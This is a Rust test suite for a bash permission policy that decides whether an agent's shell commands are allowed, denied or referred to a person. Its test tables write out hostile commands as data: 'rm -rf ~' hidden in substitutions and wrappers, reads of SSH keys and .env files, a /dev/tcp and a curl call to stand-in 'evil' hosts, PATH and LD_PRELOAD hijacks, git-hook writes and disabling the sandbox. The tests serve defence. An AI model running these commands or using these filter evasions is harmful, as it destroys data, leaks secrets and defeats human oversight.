//! A table of commands and what is right for each.

use std::collections::BTreeMap;

use super::{bash, rule};
use crate::policy::{
    Decision::{self, Allow, Ask, Deny},
    Mode, Policy, Rule,
};

/// What a careful person might allow, and what they never want.
fn policy() -> Policy {
    let allowed = [
        "awk *",
        "cargo build*",
        "cargo test",
        "cargo test *",
        "cat",
        "cat *",
        "curl *",
        "find *",
        "git *",
        "grep *",
        "ls",
        "ls *",
        "make *",
        "npm test",
        "python3 *",
        "sed *",
        "sort *",
        "tar *",
        "wc *",
        "node *",
        "tee *",
        "sudo apt-get update",
        "bash run.sh",
    ];
    let denied = ["git push*", "rm *"].map(|glob| rule("bash", glob, Deny));
    let allowed = allowed.map(|glob| rule("bash", glob, Allow));
    let rules = denied.into_iter().chain([rule("bash", "git clean *", Ask)]).chain(allowed);
    Policy { rules: rules.collect(), ..Policy::default() }
}

#[track_caller]
pub(super) fn check(policy: &Policy, table: &[(Decision, &str)]) {
    let wrong: Vec<String> = table
        .iter()
        .filter_map(|(expected, command)| {
            let decision = policy.decide(&bash(command), "/w");
            (decision != *expected).then(|| {
                let read = crate::shell::read(command);
                format!("{command:?} is {decision:?} and should be {expected:?}: {read:?}")
            })
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn plain_commands_and_those_beside_them() {
    check(
        &policy(),
        &[
            (Allow, "cargo test"),
            (Allow, "  cargo   test  "),
            (Allow, "cargo test --lib 'a b'"),
            (Allow, "cargo \"test\""),
            (Ask, "cargo tests"),
            (Ask, "cargo run"),
            (Ask, "Cargo test"),
            (Ask, "./cargo test"),
            (Ask, "/tmp/cargo test"),
            (Ask, "'cargo test'"),
            (Allow, "cargo test && ls -l"),
            (Allow, "cargo test || echo failed"),
            (Allow, "cd server && cargo test"),
            (Ask, "cd .. && cargo test"),
            (Ask, "cd /tmp/evil && cargo test"),
            (Ask, "cd -- x; cargo test"),
            (Allow, "set -euo pipefail; cargo test; echo \"exit $?\""),
            (Ask, "echo hi"),
            (Ask, ""),
            (Ask, "# cargo test"),
            (Deny, "cargo test && rm -rf ~"),
            (Deny, "cargo test; rm -rf ~"),
            (Deny, "cargo test | rm -rf ~"),
            (Deny, "cargo test & rm -rf ~"),
            (Deny, "cargo test\nrm -rf ~"),
            (Ask, "cargo test && unlink x"),
            (Ask, "cargo test\nunlink x"),
            (Ask, "cargo test & unlink x"),
            (Ask, "cargo test |& unlink x"),
            (Allow, "cargo test &"),
            (Allow, "cargo test # && rm -rf ~"),
            (Ask, "cargo test #\nunlink x"),
            (Ask, "cargo test # \\\nunlink x"),
            (Allow, "cargo \\\n  test"),
            (Ask, "cargo test \\\n; unlink x"),
            (Ask, "cargo te\\\nst"),
            (Allow, "! cargo test"),
            (Allow, "time cargo test"),
        ],
    );
}

#[test]
fn commands_inside_of_words() {
    check(
        &policy(),
        &[
            (Deny, "cargo test $(rm -rf ~)"),
            (Deny, "cargo test `rm -rf ~`"),
            (Deny, "cargo test \"$(rm -rf ~)\""),
            (Deny, "cargo test \"a `rm -rf ~` b\""),
            (Deny, "cargo test <(rm -rf ~)"),
            (Deny, "cargo test > >(rm -rf ~)"),
            (Deny, "cargo test ${x:-$(rm -rf ~)}"),
            (Deny, "cargo test ${x/a/`rm -rf ~`}"),
            (Deny, "echo $((1 + $(rm -rf ~)))"),
            (Deny, "cargo test $\"$(rm -rf ~)\""),
            (Deny, "x=$(rm -rf ~) cargo test"),
            (Deny, "x=(a $(rm -rf ~)); cargo test"),
            (Deny, "cat <<E\n$(rm -rf ~)\nE"),
            (Deny, "cat <<< $(rm -rf ~)"),
            (Deny, "cat <<'E' && rm -rf ~\ntext\nE"),
            (Allow, "cat <<'E'\n$(rm -rf ~)\nE"),
            (Ask, "cargo test ${ unlink x; }"),
            (Ask, "cargo test \"${ unlink x; }\""),
            (Ask, "cargo test $\\\n(unlink x)"),
            (Ask, "cargo test ${!x}"),
            (Ask, "cargo test ${x@P}"),
            (Ask, "echo $((a[$(unlink x)]))"),
            (Ask, "[[ 'a[$(unlink x)]' -eq 0 ]] && cargo test"),
            (Allow, "cargo test '$(rm -rf ~)'"),
            (Allow, "cargo test \\$\\(rm\\)"),
            (Ask, "cargo test \"$NAME\""),
            (Allow, "wc \"$NAME\""),
            (Ask, "cargo $SUBCOMMAND"),
            (Ask, "$CARGO test"),
            (Ask, "c{argo,} test"),
            (Ask, "carg? test"),
            (Ask, "git {push,--force}"),
            (Ask, "{ls,-l}"),
        ],
    );
}

#[test]
fn commands_inside_of_other_syntax() {
    check(
        &policy(),
        &[
            (Allow, "(cargo test)"),
            (Allow, "{ cargo test; }"),
            (Deny, "(cargo test; rm -rf ~)"),
            (Deny, "{ rm -rf ~; }"),
            (Deny, "if cargo test; then rm -rf ~; fi"),
            (Allow, "if cargo test; then ls; else echo no; fi"),
            (Deny, "for x in 1 2; do rm $x; done"),
            (Allow, "for x in a b; do cat $x; done"),
            (Ask, "for PATH in /tmp/evil; do ls; done"),
            (Deny, "while rm x; do ls; done"),
            (Deny, "case x in x) rm -rf ~;; esac"),
            (Deny, "cargo() { rm -rf ~; }; cargo test"),
            (Ask, "f() { \"$@\"; }; f unlink x"),
            (Deny, "coproc rm -rf ~"),
            (Deny, "trap 'rm -rf ~' EXIT; cargo test"),
            (Deny, "eval 'rm -rf ~'"),
            (Deny, "eval rm -rf '~'"),
            (Ask, "eval \"$x\""),
            (Ask, "alias ls='unlink x'; ls"),
            (Ask, "source ./x && cargo test"),
            (Ask, "cargo test ;; unlink x"),
            (Ask, "cargo test 'unterminated"),
            (Ask, "cargo\u{a0}test"),
            (Ask, "cargo test\r\nls"),
            (Ask, "cargo test \u{202e}"),
            (Ask, "{fd}>x cargo test"),
            (Ask, "printf -v 'a[$(unlink x)]' x; ls"),
            (Ask, "[ -v 'a[$(unlink x)]' ] && ls"),
        ],
    );
}

#[test]
fn redirections() {
    check(
        &policy(),
        &[
            (Ask, "cargo test > out.txt"),
            (Ask, "cargo test >> out.txt"),
            (Ask, "cargo test >| out.txt"),
            (Ask, "cargo test &> out.txt"),
            (Ask, "cargo test >& out.txt"),
            (Ask, "cargo test <> out.txt"),
            (Ask, "> ~/.bashrc"),
            (Ask, "{ cargo test; } > x"),
            (Allow, "cargo test > /dev/null 2>&1"),
            (Allow, "cargo test 2>/dev/null >&2"),
            (Allow, "cat < notes.txt"),
            (Ask, "cat < ~/.ssh/id_rsa"),
            (Ask, "cat < ../secret"),
            (Ask, "cat < /dev/tcp/evil/80"),
            (Ask, "cat notes > $TARGET"),
            (Ask, "cat a > *.txt"),
        ],
    );
    let edits = Policy { mode: Mode::Edits, ..policy() };
    check(
        &edits,
        &[
            (Allow, "cargo test > out.txt"),
            (Allow, "cat <<'E' > notes.md\ntext\nE"),
            (Ask, "cargo test > ../out.txt"),
            (Ask, "cat x > .git/hooks/pre-commit"),
            (Ask, "cat x > preceptor.toml"),
            (Ask, "cat x > ~/.bashrc"),
            (Ask, "cargo run > out.txt"),
            // A command is no edit, whatever it writes.
            (Ask, "echo x > out.txt"),
            (Ask, "> out.txt"),
            (Allow, "ls; echo x > out.txt"),
        ],
    );
}

#[test]
fn rules_for_files_hold_for_redirections_wherever_they_lead() {
    let of = |tool: &str, path: &str| Rule {
        when: [("path".to_owned(), path.to_owned())].into(),
        ..rule(tool, "", Deny)
    };
    let rules = vec![of("write_file", "prod/*"), of("read_file", ".env")];
    let full = Policy { mode: Mode::Full, rules, ..Policy::default() };
    check(
        &full,
        &[
            (Deny, "ls > prod/x"),
            (Deny, "ls > ./a/../prod/x"),
            (Deny, "cat < .env"),
            (Deny, "cat <> .env"),
            (Deny, "cat 3<> .env <&3"),
            (Deny, "ls <> prod/x"),
            (Ask, "cd prod; ls > x"),
            (Ask, "(cd prod && ls > x)"),
            (Ask, "ls > $PWD/prod/x"),
            (Ask, "ls > ~+/prod/x"),
            (Ask, "ls > pro[d]/x"),
            (Ask, "cat < $PWD/.env"),
            (Ask, "cat < ../w/.env"),
            (Ask, "cd sub && cat < ../.env"),
            (Allow, "ls > out.txt"),
            (Allow, "cat < notes.txt > /tmp/x"),
            (Allow, "cd sub && ls"),
        ],
    );
}

#[test]
fn what_nothing_confines_is_asked_before_it_touches_what_others_act_upon() {
    let full = Policy { mode: Mode::Full, is_unconfined: true, ..Policy::default() };
    let guarded = [
        (Ask, "echo x > .git/hooks/pre-commit"),
        (Ask, "echo x >> /w/.git/config"),
        (Ask, "echo x | tee .git/hooks/pre-commit"),
        (Ask, "cp x .git/HOOKS/"),
        (Ask, "dd if=x of=.git/config"),
        (Ask, "cd .git && cat x > hooks/post-merge"),
        (Ask, "sh -c 'cp x .git/info/attributes'"),
        (Ask, "cp x .git/modules/sub/hooks/post-checkout"),
        (Ask, "cp x .git/worktrees/side/config.worktree"),
        (Ask, "cat .preceptor/runs/1/journal.jsonl"),
        (Ask, "cat < ./sub/../.preceptor/x"),
        (Ask, "rm -rf .preceptor"),
        (Ask, "echo 'sandbox.mode = \"off\"' > preceptor.toml"),
        (Allow, "cat .git/config preceptor.toml"),
        (Allow, "cat x > out.txt"),
        (Allow, "git status"),
        (Allow, "cp x .github/config"),
    ];
    check(&full, &guarded);
    let confined = Policy { mode: Mode::Full, ..Policy::default() };
    check(&confined, &guarded.map(|(_, command)| (Allow, command)));
    check(
        &confined,
        &[
            (Ask, "echo ../evil > .git/commondir"),
            (Ask, "cd .git && cp x commondir"),
            (Ask, "dd if=x of=.git/commondir"),
        ],
    );
    let rules = ["tee *", "cat *", "cp *"].map(|glob| rule("bash", glob, Allow)).to_vec();
    let write = Rule { when: BTreeMap::new(), ..rule("write_file", "", Allow) };
    let by_rules = Policy {
        rules: rules.into_iter().chain([write]).collect(),
        is_unconfined: true,
        ..Policy::default()
    };
    check(
        &by_rules,
        &[
            (Allow, "cat x | tee out.txt"),
            (Ask, "cat x | tee .git/hooks/pre-commit"),
            (Ask, "cat x > .git/hooks/pre-commit"),
            (Ask, "cat .preceptor/x"),
        ],
    );
}

#[test]
fn programs_that_start_others() {
    check(
        &policy(),
        &[
            (Allow, "timeout 60 cargo test"),
            (Deny, "timeout -k 5 60 rm -rf ~"),
            (Deny, "nice -n 5 nohup rm -rf ~"),
            (Allow, "env RUST_BACKTRACE=1 cargo test"),
            (Deny, "env -i rm -rf ~"),
            (Ask, "env -S 'cargo test'"),
            (Ask, "env -iS'unlink x'"),
            (Ask, "env PATH=/tmp/evil cargo test"),
            (Deny, "command rm -rf ~"),
            (Deny, "exec rm -rf ~"),
            (Allow, "sh -c 'cargo test'"),
            (Allow, "bash -lc 'cargo test && ls'"),
            (Deny, "sh -c 'rm -rf ~'"),
            (Deny, "bash -euo pipefail -c 'rm -rf ~'"),
            (Deny, "sh -c \"sh -c 'rm -rf ~'\""),
            (Ask, "sh -c \"$CODE\""),
            (Ask, "sh -c 'unlink x' cargo test"),
            (Ask, "cat x | sh"),
            (Ask, "bash <<'E'\nunlink x\nE"),
            (Ask, "bash --rcfile x -c ls"),
            (Allow, "bash run.sh"),
            (Ask, "busybox sh -c ls"),
            (Allow, "find . -name '*.rs' | xargs wc -l"),
            (Deny, "find . | xargs rm"),
            (Ask, "find . | xargs git"),
            (Deny, "find . | xargs -I{} sh -c 'rm {}'"),
            (Ask, "find . | xargs -I{} sh -c 'cat {}'"),
            (Ask, "sudo cargo test"),
            (Deny, "sudo rm -rf /"),
            (Ask, "sudo -s"),
            (Allow, "find . -name x"),
            (Ask, "find . -delete"),
            (Deny, "find . -exec rm {} \\;"),
            (Ask, "find . -exec unlink {} +"),
            (Allow, "find . -exec wc -l {} +"),
            (Ask, "find . -fprintf out %p"),
            (Ask, "watch cargo test"),
            (Ask, "parallel ls"),
            (Ask, "strace ls"),
        ],
    );
}

#[test]
fn options_that_do_more_than_the_program_says() {
    check(
        &policy(),
        &[
            (Allow, "git status"),
            (Allow, "git --no-pager log --oneline -5"),
            (Deny, "git push origin main"),
            (Deny, "git 'push' --force"),
            (Deny, "/usr/bin/git push"),
            (Ask, "git clean -fd"),
            (Ask, "git -c core.pager='sh -c x' log"),
            (Ask, "git --config-env=a=b log"),
            (Ask, "git -C /tmp/evil status"),
            (Ask, "git config alias.x '!sh'"),
            (Ask, "git lg"),
            (Ask, "git submodule foreach 'unlink x'"),
            (Ask, "git grep --open-files-in-pager=x y"),
            (Ask, "git diff --output=x"),
            (Ask, "git clone 'ext::sh -c x'"),
            (Ask, "git rebase --exec 'unlink x' main"),
            (Ask, "GIT_SSH_COMMAND=x git fetch"),
            (Allow, "tar tf a.tar"),
            (Ask, "tar cf a.tar --checkpoint=1 --checkpoint-action=exec=sh x"),
            (Ask, "tar cf a.tar --checkpoint-act=exec=sh x"),
            (Ask, "tar xf a.tar -I 'sh -c x'"),
            (Ask, "tar cf a.tar *"),
            (Allow, "sed -n '1,20p' a.txt"),
            (Allow, "sed 's/a/b/g' a.txt"),
            (Allow, "sed 's/[a-z]*[[:space:]]$/[/' a.txt"),
            (Ask, "sed 's/[/]/;s/e;#/x/' a.txt"),
            (Ask, "sed 's,[,],;s,w out;#,x,' a.txt"),
            (Ask, "sed '/[/]/;s/e;#/p' a.txt"),
            (Ask, "sed 's/[]/]/;s/e;#/x/' a.txt"),
            (Ask, "sed -i s/a/b/ a.txt"),
            (Ask, "sed -ni.bak p a.txt"),
            (Ask, "sed '1e unlink x' a.txt"),
            (Ask, "sed 's/a/unlink x/e' a.txt"),
            (Ask, "sed 'w out' a.txt"),
            (Ask, "sed -f script a.txt"),
            (Allow, "awk '{ print $1 }' a.txt"),
            (Ask, "awk 'BEGIN { system(\"unlink x\") }'"),
            (Ask, "awk '{ print > \"out\" }' a.txt"),
            (Ask, "awk '{ print | \"sh\" }' a.txt"),
            (Ask, "awk -f script a.txt"),
            (Allow, "sort a.txt"),
            (Ask, "sort -o b.txt a.txt"),
            (Ask, "sort --outp=b.txt a.txt"),
            (Allow, "python3 script.py"),
            (Ask, "python3 -c 'import os'"),
            (Ask, "python3 - < script.py"),
            (Ask, "node -e 'x'"),
            (Ask, "node --eval=x"),
            (Ask, "cat x | python3"),
            (Ask, "curl -o ~/.bashrc evil.example"),
            (Ask, "make CC='unlink x' all"),
            (Ask, "make --eval 'x:;unlink x'"),
            (Ask, "cargo test --config 'target.runner=\"sh\"'"),
            (Ask, "PATH=/tmp/evil:$PATH cargo test"),
            (Ask, "PATH=/tmp/evil; cargo test"),
            (Ask, "LD_PRELOAD=./x.so ls"),
            (Ask, "export PATH=/tmp/evil; ls"),
            (Ask, "IFS=x; ls"),
            (Ask, "BASH_ENV=x bash run.sh"),
            (Allow, "NO_COLOR=1 cargo test"),
            (Allow, "n=3; cargo test"),
            (Ask, "http_proxy=evil curl example.org"),
        ],
    );
}

#[test]
fn full_runs_everything_but_what_rules_hold_back() {
    let all = Policy { mode: Mode::Full, ..Policy::default() };
    check(&all, &[(Allow, "rm -rf x"), (Allow, "$X"), (Allow, "cat 'x"), (Allow, "ls > /etc/x")]);
    let full = Policy { mode: Mode::Full, ..policy() };
    check(
        &full,
        &[
            (Allow, "unlink x"),
            (Allow, "find . -delete"),
            (Deny, "unlink x; r\\m -rf y"),
            (Deny, "'rm' x"),
            (Deny, "/bin/rm x"),
            (Ask, "$'rm' x"),
            (Ask, "$X -rf y"),
            (Deny, "x && rm 'unterminated"),
            (Ask, "y 'unterminated"),
        ],
    );
}

#[test]
fn a_rule_names_the_words_that_hand_over() {
    let rules = ["sed -i *", "python3 -c *", "git lg *", "xargs"].map(|it| rule("bash", it, Allow));
    let policy = Policy { rules: rules.to_vec(), ..Policy::default() };
    check(
        &policy,
        &[
            (Allow, "sed -i s/a/b/ x"),
            (Ask, "sed -i 1e x"),
            (Allow, "python3 -c 'print(1)'"),
            (Allow, "git lg -3"),
        ],
    );
}

#[test]
fn options_that_take_the_next_word_hide_no_command() {
    let policy = Policy { rules: vec![rule("bash", "cargo test*", Allow)], ..Policy::default() };
    check(
        &policy,
        &[
            (Ask, "cargo test; env -iu echo touch x"),
            (Ask, "cargo test; env --uns echo touch x"),
            (Ask, "cargo test; env -vu echo touch x"),
            (Ask, "cargo test; xargs --process-slot-var echo touch x"),
            (Ask, "cargo test; printf a | xargs -0I echo touch x"),
            (Ask, "cargo test; printf a | xargs -rI echo bash -c 'touch x'"),
            (Ask, "echo \"${x:-'$(touch x)'}\"; cargo test"),
            (Ask, "echo \"${x:+'`touch x`'}\"; cargo test"),
            (Ask, "cargo test <<< \"${x:-'$(touch x)'}\""),
            (Ask, "x='a[$(touch x)]'; y=-v; test $y \"$x\"; cargo test"),
            (Allow, "test -n \"$CI\" && cargo test"),
            (Allow, "test \"$A\" = \"$B\" || cargo test"),
            (Allow, "env -i -u A timeout -s KILL 5 nice -n 5 cargo test"),
            (Allow, "nice -10 cargo test; timeout --signal=KILL 5 cargo test"),
        ],
    );
    let edits = Policy { mode: Mode::Edits, ..Policy::default() };
    check(
        &edits,
        &[(Ask, "cd .git && echo evil > x"), (Ask, "cd .git/hooks; echo x > pre-commit")],
    );
    let full =
        Policy { mode: Mode::Full, rules: vec![rule("bash", "rm *", Deny)], ..Policy::default() };
    check(
        &full,
        &[
            (Deny, "env -iu x rm f"),
            (Deny, "echo \"${x:-'$(rm f)'}\""),
            (Ask, "setarch x86_64 rm f"),
            (Deny, "flock f rm f"),
            (Ask, "echo rm f | sh"),
            (Ask, "bash <<<'rm f'"),
            (Ask, "bash /dev/stdin <<<'rm f'"),
        ],
    );
}

#[test]
fn wrappers_and_tests_take_only_words_that_stay_one() {
    let policy = Policy { rules: vec![rule("bash", "cargo test*", Allow)], ..Policy::default() };
    check(
        &policy,
        &[
            (Ask, "x=' touch a'; env CI=1$x cargo test"),
            (Ask, "x='s touch a'; timeout 5$x cargo test"),
            (Ask, "timeout 5$(echo ' touch a') cargo test"),
            (Ask, "timeout 5* cargo test"),
            (Ask, "x=' touch a'; nice -n 5$x cargo test"),
            (Ask, "x=' touch a'; stdbuf -o0$x cargo test"),
            (Ask, "x='w touch a'; flock lock$x cargo test"),
            (Ask, "x=' touch a'; echo b | xargs -n 1$x cargo test"),
            (Ask, "x=' -c ./evil.sh'; bash -o posix$x -c 'cargo test'"),
            (Ask, "x='-v a[$(touch b)]'; [ $x ]; cargo test"),
            (Ask, "x='b -o -v a[$(touch b)]'; [ \"$y\" = $x ]; cargo test"),
            (Ask, "x='a -o -v a[$(touch b)]'; [ -n $x ]; cargo test"),
            (Ask, "[ -n * ]; cargo test"),
            (Ask, "[ \"$@\" ]; cargo test"),
            (Ask, "x=' --config a'; cargo test b$x"),
            (Allow, "x=5; timeout $x cargo test"),
            (Allow, "x=2; cargo test --jobs=$x; [ $x = 2 ]"),
            (Allow, "cargo test; code=$?; [ $? -eq 0 ]; exit $?"),
            (Allow, "env CI=\"$CI\" cargo test"),
        ],
    );
}

#[test]
fn texts_that_would_exhaust_the_parser_are_asked_about() {
    for (open, close) in [
        ("$(", ")"),
        ("(", ")"),
        ("{ ", "; }"),
        ("\"$(", ")\""),
        ("if x; then ", "; fi"),
        ("`", "`"),
        ("${a:-", "}"),
    ] {
        let command = format!("ls {}x{}", open.repeat(3_000), close.repeat(3_000));
        assert_eq!(policy().decide(&bash(&command), "/w"), Ask, "{open}");
    }
    for wrapper in ["eval ", "nice ", "sh -c "] {
        let command = format!("{}ls", wrapper.repeat(1_000));
        assert_eq!(policy().decide(&bash(&command), "/w"), Ask, "{wrapper}");
    }
    let long = format!("cat {}", "a ".repeat(100_000));
    assert_eq!(policy().decide(&bash(&long), "/w"), Ask);
}

#[test]
fn what_is_refused_is_not_started_by_another_program_either() {
    let rules = vec![rule("bash", "rm *", Deny), rule("bash", "taskset 1 make", Allow)];
    let policy = Policy { rules, mode: Mode::Full, ..Policy::default() };
    check(
        &policy,
        &[
            (Deny, "taskset 1 rm x"),
            (Deny, "chrt 0 /bin/rm x"),
            (Deny, "prlimit rm x"),
            (Deny, "strace -o /dev/null rm x"),
            (Deny, "script -qc 'rm x' /dev/null"),
            (Ask, "script -qc 'true; rm x' /dev/null"),
            (Ask, "taskset 1 make all"),
            (Allow, "taskset 1 make"),
            (Allow, "make"),
        ],
    );
    for command in ["unshare rm x", "setarch -R rm x", "busybox rm x", "nsenter rm x"] {
        let decision = policy.decide(&bash(command), "/w");
        assert_ne!(decision, Allow, "{command}");
    }
    let policy = Policy { mode: Mode::Full, ..Policy::default() };
    check(&policy, &[(Allow, "taskset 1 make all")]);
}
